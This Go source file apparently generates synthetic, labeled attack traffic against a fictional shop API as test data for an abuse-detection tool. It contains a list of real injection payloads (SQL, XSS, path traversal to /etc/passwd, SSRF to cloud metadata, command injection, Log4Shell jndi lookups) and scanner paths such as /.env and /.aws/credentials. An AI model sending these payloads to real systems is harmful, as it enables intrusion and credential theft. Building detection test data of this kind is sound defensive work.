package actorgen

import (
	"fmt"
	"time"

	"github.com/apitap/apitap/reassembly/http1"
)

// abuse generates the attacks, each at a random time of the capture.
func (g *gen) abuse() {
	g.stuffingOneAddress()
	g.stuffingToolFleet()
	g.stuffingRotatingProxies()
	g.bruteForce()
	g.bruteForceDistributed()
	g.accountTakeover()
	g.bolaWalk()
	g.bolaOwners()
	g.bolaFunction()
	g.massAssignment()
	g.insiderBehindNAT()
	g.rateAbuse()
	g.botSpoofedBrowser()
	g.botRegularTool()
	g.exfiltrationStolenToken()
	g.scraperOneAddress()
	g.scraperRotating()
	g.fakeGooglebot()
	g.dos()
	g.lowAndSlowIdentity()
	g.lowAndSlowTool()
	g.userEnumeration()
}

// leaked is a list of leaked e-mail addresses (a combo list's users).
func (g *gen) leaked(n int) []string {
	out := make([]string, n)
	for i := range out {
		out[i] = g.email()
	}
	return out
}

// stuffingBody is a credential-stuffing tool's login request: its own
// field order and spacing, a password from the combo list.
func (g *gen) stuffingBody(user string, style int) string {
	pw := []string{"123456", "password1", "qwerty2024", "Summer2025!", "letmein", "iloveyou", "Passw0rd", "dragon12"}[g.r.IntN(8)]
	switch style {
	case 0:
		return fmt.Sprintf(`{"email":%q,"password":%q}`, user, pw)
	case 1:
		return fmt.Sprintf(`{"password": %q, "email": %q, "remember": true}`, pw, user)
	}
	return "email=" + queryEscape(user) + "&password=" + queryEscape(pw)
}

// stuffingOneAddress: one address tries a combo list.
func (g *gen) stuffingOneAddress() {
	sc := g.scenario("stuffing_one_address", true, "credential_stuffing")
	c := g.newClient("cloud", g.tool("python"))
	t := g.at(g.uniform(10*time.Minute, g.span-30*time.Minute))
	users := g.leaked(40 + g.r.IntN(60))
	gap := time.Duration(300+g.r.IntN(1500)) * time.Millisecond
	for i, u := range users {
		st, body := 401, loginFailed
		if i == len(users)/2 {
			st, body = 200, fmt.Sprintf(loginOK, g.userJWT("u-victim-"+fmt.Sprint(i)))
		}
		g.exchange(sc, c, t, "POST", ShopHost, "/api/v2/auth/login", g.stuffingBody(u, 0), st, body)
		t = t.Add(g.jitter(gap, 0.4))
	}
}

// stuffingToolFleet: a few rented servers run the same tool, each trying
// a slice of the list.
func (g *gen) stuffingToolFleet() {
	sc := g.scenario("stuffing_tool_fleet", true, "credential_stuffing")
	n := 5 + g.r.IntN(6)
	users := g.leaked(n * (4 + g.r.IntN(5)))
	t0 := g.at(g.uniform(10*time.Minute, g.span-30*time.Minute))
	for k := 0; k < n; k++ {
		c := g.newClient("cloud", g.tool("go"))
		t := t0.Add(g.uniform(0, time.Minute))
		for i := k; i < len(users); i += n {
			g.exchange(sc, c, t, "POST", ShopHost, "/api/v2/auth/login", g.stuffingBody(users[i], 1), 401, loginFailed)
			t = t.Add(g.uniform(time.Second, 8*time.Second))
		}
	}
}

// stuffingRotatingProxies: a campaign through a residential proxy
// network: every attempt or two from another address, the User-Agent
// rotated among real browsers, hundreds of leaked accounts, a few hits.
func (g *gen) stuffingRotatingProxies() {
	sc := g.scenario("stuffing_rotating_proxies", true, "credential_stuffing", "account_takeover")
	users := g.leaked(200 + g.r.IntN(200))
	t := g.at(g.uniform(10*time.Minute, g.span-50*time.Minute))
	style := g.r.IntN(3)
	var c *client
	left := 0
	for i, u := range users {
		if left == 0 {
			c = g.newClient("residential", g.browser())
			left = 1 + g.r.IntN(3)
		}
		left--
		c.sw = g.browser() // a fresh User-Agent every time
		st, body := 401, loginFailed
		if g.r.IntN(100) < 2 {
			st, body = 200, fmt.Sprintf(loginOK, g.userJWT(fmt.Sprintf("u%07d", 2000000+i)))
		}
		g.exchange(sc, c, t, "POST", ShopHost, "/api/v2/auth/login", g.stuffingBody(u, style), st, body)
		t = t.Add(g.expo(time.Duration(2+g.r.IntN(6)) * time.Second))
	}
}

// bruteForce: one account, a password list, one address.
func (g *gen) bruteForce() {
	sc := g.scenario("brute_force", true, "brute_force")
	c := g.newClient("residential", g.tool("python"))
	victim := g.email()
	t := g.at(g.uniform(10*time.Minute, g.span-20*time.Minute))
	for k := 0; k < 25+g.r.IntN(40); k++ {
		g.exchange(sc, c, t, "POST", ShopHost, "/api/v2/auth/login", g.stuffingBody(victim, 0), 401, loginFailed)
		t = t.Add(g.uniform(500*time.Millisecond, 4*time.Second))
	}
}

// bruteForceDistributed: one account attacked from several addresses.
func (g *gen) bruteForceDistributed() {
	sc := g.scenario("brute_force_distributed", true, "brute_force")
	victim := "admin@example.com"
	g.out.Scenarios[sc].Users = append(g.out.Scenarios[sc].Users, victim) // the account attacked is named in the detection
	t := g.at(g.uniform(10*time.Minute, g.span-20*time.Minute))
	var cs []*client
	for k := 0; k < 4+g.r.IntN(5); k++ {
		cs = append(cs, g.newClient("cloud", g.tool("curl")))
	}
	for k := 0; k < 40+g.r.IntN(40); k++ {
		g.exchange(sc, cs[g.r.IntN(len(cs))], t, "POST", ShopHost, "/api/v2/auth/login", g.stuffingBody(victim, 2), 401, loginFailed)
		t = t.Add(g.uniform(2*time.Second, 10*time.Second))
	}
}

// accountTakeover: failures, then the right password, then the account
// is used.
func (g *gen) accountTakeover() {
	sc := g.scenario("account_takeover", true, "account_takeover", "brute_force")
	c := g.newClient("residential", g.tool("python"))
	u := g.newShopUser()
	t := g.at(g.uniform(10*time.Minute, g.span-20*time.Minute))
	for k := 0; k < 6+g.r.IntN(10); k++ {
		g.exchange(sc, c, t, "POST", ShopHost, "/api/v2/auth/login", fmt.Sprintf(`{"email":%q,"password":"guess%d"}`, u.email, k), 401, loginFailed)
		t = t.Add(g.uniform(time.Second, 6*time.Second))
	}
	tok := g.userJWT(u.sub)
	g.exchange(sc, c, t, "POST", ShopHost, "/api/v2/auth/login", fmt.Sprintf(`{"email":%q,"password":%q}`, u.email, u.password), 200, fmt.Sprintf(loginOK, tok))
	c.bearer = tok
	g.out.Scenarios[sc].Users = append(g.out.Scenarios[sc].Users, u.sub)
	g.exchange(sc, c, t.Add(2*time.Second), "GET", ShopHost, "/api/v2/me", "", 200, g.profile(u.sub, u.email))
}

// bolaWalk: a signed-in user walks the ids of an endpoint of other
// customers' objects.
func (g *gen) bolaWalk() {
	sc := g.scenario("bola_id_walk", true, "bola")
	u := g.newShopUser()
	g.out.Scenarios[sc].Users = append(g.out.Scenarios[sc].Users, u.sub)
	c := g.newClient("residential", g.browser())
	c.bearer = g.userJWT(u.sub)
	t := g.at(g.uniform(10*time.Minute, g.span-20*time.Minute))
	g.browse(sc, c, u, t.Add(-5*time.Minute), 5*time.Minute, 20*time.Second)
	start := 700000 + g.r.IntN(10000)
	for id := start; id < start+30+g.r.IntN(60); id++ {
		g.exchange(sc, c, t, "GET", ShopHost, fmt.Sprintf("/api/v2/invoices/%d", id), "", 200, fmt.Sprintf(`{"id":%d,"amount":%d.00,"status":"paid"}`, id, g.r.IntN(900)))
		t = t.Add(g.uniform(200*time.Millisecond, 3*time.Second))
	}
}

// bolaOwners: a user reads documents that belong to other users.
func (g *gen) bolaOwners() {
	sc := g.scenario("bola_other_owners", true, "bola")
	u := g.newShopUser()
	g.out.Scenarios[sc].Users = append(g.out.Scenarios[sc].Users, u.sub)
	c := g.newClient("residential", g.browser())
	c.bearer = g.userJWT(u.sub)
	t := g.at(g.uniform(10*time.Minute, g.span-20*time.Minute))
	for k := 0; k < 8+g.r.IntN(20); k++ {
		owner := fmt.Sprintf("u%07d", 1000000+g.r.IntN(9000000))
		g.exchange(sc, c, t, "GET", ShopHost, fmt.Sprintf("/api/v2/documents/%s-%04x-4%03x-8%03x-%012x", g.hexStr(4), g.r.IntN(65536), g.r.IntN(4096), g.r.IntN(4096), g.r.Int64N(1<<48)),
			"", 200, fmt.Sprintf(`{"id":"doc","owner_id":%q,"title":"contract","size":%d}`, owner, g.r.IntN(90000)))
		t = t.Add(g.uniform(time.Second, 20*time.Second))
	}
}

// bolaFunction: an ordinary user reaches an administrative function.
func (g *gen) bolaFunction() {
	sc := g.scenario("bola_function_level", true, "bola")
	u := g.newShopUser()
	g.out.Scenarios[sc].Users = append(g.out.Scenarios[sc].Users, u.sub)
	c := g.newClient("residential", g.browser())
	c.bearer = g.userJWT(u.sub)
	t := g.at(g.uniform(10*time.Minute, g.span-30*time.Minute))
	g.browse(sc, c, u, t, 10*time.Minute, 10*time.Second)
	t = t.Add(11 * time.Minute)
	g.exchange(sc, c, t, "POST", ShopHost, fmt.Sprintf("/api/v2/admin/users/%d/reset-password", 1000+g.r.IntN(9000)), `{"notify":false}`, 200, `{"ok":true}`)
	g.exchange(sc, c, t.Add(3*time.Second), "GET", ShopHost, "/api/v2/admin/users?page=1", "", 200, `{"users":[{"id":1}]}`)
}

// massAssignment: a profile update that makes its author an admin.
func (g *gen) massAssignment() {
	sc := g.scenario("mass_assignment", true, "bola")
	u := g.newShopUser()
	g.out.Scenarios[sc].Users = append(g.out.Scenarios[sc].Users, u.sub)
	c := g.newClient("residential", g.browser())
	c.bearer = g.userJWT(u.sub)
	t := g.at(g.uniform(10*time.Minute, g.span-20*time.Minute))
	g.exchange(sc, c, t, "PATCH", ShopHost, "/api/v2/me", `{"name":"Mal","role":"admin"}`, 200, fmt.Sprintf(`{"id":%q,"name":"Mal","role":"admin"}`, u.sub))
}

// insiderBehindNAT: an employee behind the office NAT reads other
// customers' orders: the user must be named, the shared address never
// blocked.
func (g *gen) insiderBehindNAT() {
	sc := g.scenario("insider_behind_nat", true, "bola")
	var nat *Scenario
	for i := range g.out.Scenarios {
		if g.out.Scenarios[i].Name == "nat_office" {
			nat = &g.out.Scenarios[i]
		}
	}
	if nat == nil || len(nat.IPs) == 0 {
		return
	}
	u := g.newShopUser()
	g.out.Scenarios[sc].Users = append(g.out.Scenarios[sc].Users, u.sub)
	c := g.clientAt(nat.IPs[g.r.IntN(len(nat.IPs))], g.browser())
	c.bearer = g.userJWT(u.sub)
	t := g.at(g.uniform(10*time.Minute, g.span-20*time.Minute))
	for k := 0; k < 15+g.r.IntN(30); k++ {
		id := 500000 + g.r.IntN(400000)
		g.exchange(sc, c, t, "GET", ShopHost, fmt.Sprintf("/api/v2/orders/%d", id), "", 200, g.order(id, 10000+g.r.IntN(90000), g.email()))
		t = t.Add(g.uniform(2*time.Second, 30*time.Second))
	}
	// the office's addresses are the benign scenario's; the attribution
	// of the insider goes by user
	g.out.Scenarios[sc].IPs = nil
}

// rateAbuse: an API key hammering a listing far beyond anyone's rate.
func (g *gen) rateAbuse() {
	sc := g.scenario("rate_abuse", true, "rate_abuse")
	key := "ak_live_" + g.hexStr(16)
	g.out.Scenarios[sc].Keys = append(g.out.Scenarios[sc].Keys, key)
	c := g.newClient("cloud", g.tool("okhttp"))
	c.apiKey = key
	t := g.at(g.uniform(10*time.Minute, g.span-20*time.Minute))
	gap := time.Duration(20+g.r.IntN(50)) * time.Millisecond
	for k := 0; k < 1500+g.r.IntN(2000); k++ {
		g.exchange(sc, c, t, "GET", PartnerHost, fmt.Sprintf("/v1/orders?page=%d", 1+k%5), "", 200, g.orderList(10000+k%100, "x@y.example", 1))
		t = t.Add(g.jitter(gap, 0.3))
	}
}

// botSpoofedBrowser: a script with a browser's User-Agent and none of a
// browser's other headers.
func (g *gen) botSpoofedBrowser() {
	sc := g.scenario("bot_spoofed_browser", true, "bot", "scraping")
	sw := g.browser()
	sw = &software{ua: sw.ua, layout: layGo}
	c := g.newClient("cloud", sw)
	t := g.at(g.uniform(10*time.Minute, g.span-30*time.Minute))
	for k := 0; k < 80+g.r.IntN(100); k++ {
		id := g.zipf()
		g.exchange(sc, c, t, "GET", ShopHost, fmt.Sprintf("/api/v2/products/%d", id), "", 200, g.product(id))
		t = t.Add(g.uniform(500*time.Millisecond, 4*time.Second))
	}
}

// botRegularTool: curl in a loop, the same call every two seconds.
func (g *gen) botRegularTool() {
	sc := g.scenario("bot_regular_tool", true, "bot")
	c := g.newClient("cloud", g.tool("curl"))
	t := g.at(g.uniform(10*time.Minute, g.span-20*time.Minute))
	for k := 0; k < 100+g.r.IntN(200); k++ {
		g.exchange(sc, c, t, "GET", ShopHost, "/api/v2/products?category=lighting&page=1", "", 200, g.productPage("lighting", 1))
		t = t.Add(g.jitter(2*time.Second, 0.02))
	}
}

// exfiltrationStolenToken: a back-office user's token used from an
// address abroad to pull customer records one by one.
func (g *gen) exfiltrationStolenToken() {
	sc := g.scenario("exfiltration_stolen_token", true, "exfiltration", "scraping", "bola")
	sub := "staff-" + firstNames[g.r.IntN(len(firstNames))] + "-x"
	g.out.Scenarios[sc].Users = append(g.out.Scenarios[sc].Users, sub)
	tok := g.userJWT(sub)
	// the real owner at work
	own := g.newClient("office", g.browser())
	own.bearer = tok
	t := g.at(g.uniform(0, 20*time.Minute))
	for k := 0; k < 15+g.r.IntN(20); k++ {
		id := 10000 + g.r.IntN(90000)
		g.exchange(sc, own, t, "GET", AdminHost, fmt.Sprintf("/admin/api/customers/%d", id), "", 200, g.customer(id))
		t = t.Add(g.expo(90 * time.Second))
	}
	// the thief
	c := g.newClient("cloud", g.tool("python"))
	c.bearer = tok
	t = g.at(g.uniform(40*time.Minute, g.span-30*time.Minute))
	for k := 0; k < 300+g.r.IntN(400); k++ {
		id := 10000 + g.r.IntN(90000)
		g.exchange(sc, c, t, "GET", AdminHost, fmt.Sprintf("/admin/api/customers/%d", id), "", 200, g.customer(id))
		t = t.Add(g.uniform(300*time.Millisecond, 3*time.Second))
	}
}

// scraperOneAddress: one address reads the whole catalog.
func (g *gen) scraperOneAddress() {
	sc := g.scenario("scraper_one_address", true, "scraping", "bot")
	c := g.newClient("cloud", g.tool("python"))
	t := g.at(g.uniform(10*time.Minute, g.span-60*time.Minute))
	n := 300 + g.r.IntN(600)
	start := 1 + g.r.IntN(g.catalog-n)
	for id := start; id < start+n; id++ {
		g.exchange(sc, c, t, "GET", ShopHost, fmt.Sprintf("/api/v2/products/%d", id), "", 200, g.product(id))
		t = t.Add(g.uniform(time.Second, 6*time.Second))
	}
}

// scraperRotating: a catalog walk spread over six addresses, one calling
// itself AhrefsBot, one HeadlessChrome, the others a spoofed Chrome, a
// Firefox, python and okhttp; each reads its share of the ids at its own
// pace for an hour or more.
func (g *gen) scraperRotating() {
	sc := g.scenario("scraper_rotating", true, "scraping", "bot")
	chrome := g.browser()
	for chrome.layout != layChrome {
		chrome = g.browser()
	}
	headless := *chrome
	headless.ua = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/124.0.6367.91 Safari/537.36"
	headless.extra = []http1.Header{{Name: "sec-ch-ua", Value: `"Chromium";v="124", "HeadlessChrome";v="124", "Not-A.Brand";v="99"`}}
	spoof := &software{ua: chrome.ua, layout: layPython, accept: "application/json"}
	ahrefs := &software{ua: "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", layout: layCrawler, accept: "*/*"}
	ff := g.browser()
	sws := []*software{ahrefs, &headless, spoof, ff, g.tool("python"), g.tool("okhttp")}
	var cs []*client
	for _, sw := range sws {
		cs = append(cs, g.newClient("residential", sw))
	}
	n := 900 + g.r.IntN(900)
	ids := g.r.Perm(g.catalog)[:min(n, g.catalog)]
	start := g.at(g.uniform(5*time.Minute, g.span/3))
	next := make([]time.Time, len(cs))
	gaps := make([]time.Duration, len(cs))
	for i := range cs {
		next[i] = start.Add(g.uniform(0, 2*time.Minute))
		gaps[i] = time.Duration(3+g.r.IntN(23)) * time.Second
	}
	for _, id := range ids {
		i := g.r.IntN(len(cs))
		g.exchange(sc, cs[i], next[i], "GET", ShopHost, fmt.Sprintf("/api/v2/products/%d", id+1), "", 200, g.product(id+1))
		next[i] = next[i].Add(g.jitter(gaps[i], 0.6))
	}
}

// fakeGooglebot: a scraper that calls itself Googlebot from a cloud
// server.
func (g *gen) fakeGooglebot() {
	sc := g.scenario("fake_googlebot", true, "bot", "scraping")
	sw := &software{ua: "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", layout: layCrawler, accept: "*/*"}
	c := g.newClient("cloud", sw)
	t := g.at(g.uniform(10*time.Minute, g.span-40*time.Minute))
	for k := 0; k < 150+g.r.IntN(200); k++ {
		id := 1 + g.r.IntN(g.catalog)
		g.exchange(sc, c, t, "GET", ShopHost, fmt.Sprintf("/api/v2/products/%d", id), "", 200, g.product(id))
		t = t.Add(g.uniform(500*time.Millisecond, 5*time.Second))
	}
}

// dos: a flood against search from a botnet, answered 503.
func (g *gen) dos() {
	sc := g.scenario("dos_flood", true, "dos")
	var cs []*client
	for k := 0; k < 40+g.r.IntN(80); k++ {
		cs = append(cs, g.newClient("residential", g.tool([]string{"go", "python", "curl"}[k%3])))
	}
	t := g.at(g.uniform(30*time.Minute, g.span-20*time.Minute))
	n := 3000 + g.r.IntN(3000)
	dur := g.uniform(90*time.Second, 4*time.Minute)
	for k := 0; k < n; k++ {
		at := t.Add(time.Duration(int64(dur) * int64(k) / int64(n)))
		st, body := 200, g.searchResult("x")
		if k > n/10 && g.r.IntN(3) > 0 {
			st, body = 503, `{"error":"overloaded"}`
		}
		g.exchange(sc, cs[g.r.IntN(len(cs))], at, "GET", ShopHost, "/api/v2/search?q="+fmt.Sprint(g.r.IntN(1e6)), "", st, body)
	}
}

// probes are injection attempts a patient attacker tries one at a time.
var probes = []struct{ method, target, body string }{
	{"GET", "/api/v2/search?q=lamp%27%20OR%20%271%27%3D%271", ""},
	{"GET", "/api/v2/products?category=office%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--", ""},
	{"GET", "/api/v2/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", ""},
	{"GET", "/api/v2/files?name=..%2F..%2F..%2F..%2Fetc%2Fpasswd", ""},
	{"GET", "/api/v2/avatar?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2F", ""},
	{"POST", "/api/v2/cart/items", `{"product_id":"1; cat /etc/passwd","qty":1}`},
	{"GET", "/api/v2/search?q=%7B%7B7*7%7D%7D", ""},
	{"POST", "/api/v2/auth/login", `{"email":{"$ne":null},"password":{"$ne":null}}`},
	{"GET", "/api/v2/products/1%20AND%20SLEEP(5)", ""},
	{"GET", "/api/v2/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D", ""},
	{"GET", "/api/v2/orders?sort=id%3BDROP%20TABLE%20orders", ""},
	{"GET", "/api/v2/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", ""},
}

// lowAndSlowIdentity: one signed-in account probes a few injections over
// two hours, each from another address, among ordinary calls.
func (g *gen) lowAndSlowIdentity() {
	sc := g.scenario("low_and_slow_identity", true, "low_and_slow")
	u := g.newShopUser()
	g.out.Scenarios[sc].Users = append(g.out.Scenarios[sc].Users, u.sub)
	tok := g.userJWT(u.sub)
	sw := g.browser()
	n := 8 + g.r.IntN(5)
	span := min(g.span-10*time.Minute, 2*time.Hour)
	t := g.at(g.uniform(0, g.span-span+time.Minute))
	step := span / time.Duration(n)
	for k := 0; k < n; k++ {
		c := g.newClient("residential", sw)
		c.bearer = tok
		pr := probes[(k+g.r.IntN(len(probes)))%len(probes)]
		at := t.Add(time.Duration(k) * step).Add(g.uniform(0, step/3))
		g.browse(sc, c, u, at.Add(-2*time.Minute), 2*time.Minute, 30*time.Second)
		st := 400
		if pr.method == "GET" {
			st = 200
		}
		g.exchange(sc, c, at, pr.method, ShopHost, pr.target, pr.body, st, `{"error":"bad request"}`)
	}
}

// lowAndSlowTool: an unauthenticated scanner with an unusual User-Agent
// tries an exploit path every few minutes from rotating addresses.
func (g *gen) lowAndSlowTool() {
	sc := g.scenario("low_and_slow_tool", true, "low_and_slow", "scanner")
	sw := &software{ua: "Mozilla/5.0 (compatible; Nimbostratus-Bot/v1.3.2; http://cloudsystemnetworks.com)", layout: layCrawler, accept: "*/*"}
	var cs []*client
	for k := 0; k < 8+g.r.IntN(5); k++ {
		cs = append(cs, g.newClient("cloud", sw))
	}
	paths := []string{"/.env", "/backup.zip", "/wp-login.php", "/.git/config", "/phpinfo.php", "/server-status", "/admin/config.php", "/actuator/env",
		"/config.json", "/.aws/credentials", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/luci"}
	t := g.at(g.uniform(0, 15*time.Minute))
	for k := 0; g.within(t); k++ {
		g.exchange(sc, cs[k%len(cs)], t, "GET", ShopHost, paths[g.r.IntN(len(paths))], "", 404, `{"error":"not found"}`)
		t = t.Add(g.uniform(3*time.Minute, 9*time.Minute))
	}
}

// userEnumeration: password resets that tell known from unknown
// addresses, for a list of addresses.
func (g *gen) userEnumeration() {
	sc := g.scenario("user_enumeration", true, "user_enumeration")
	c := g.newClient("cloud", g.tool("python"))
	t := g.at(g.uniform(10*time.Minute, g.span-20*time.Minute))
	for k := 0; k < 30+g.r.IntN(50); k++ {
		st, body := 404, `{"error":"no account with this e-mail address"}`
		if g.r.IntN(8) == 0 {
			st, body = 202, `{"status":"reset link sent"}`
		}
		g.exchange(sc, c, t, "POST", ShopHost, "/api/v2/auth/password-reset", fmt.Sprintf(`{"email":%q}`, g.email()), st, body)
		t = t.Add(g.uniform(time.Second, 5*time.Second))
	}
}
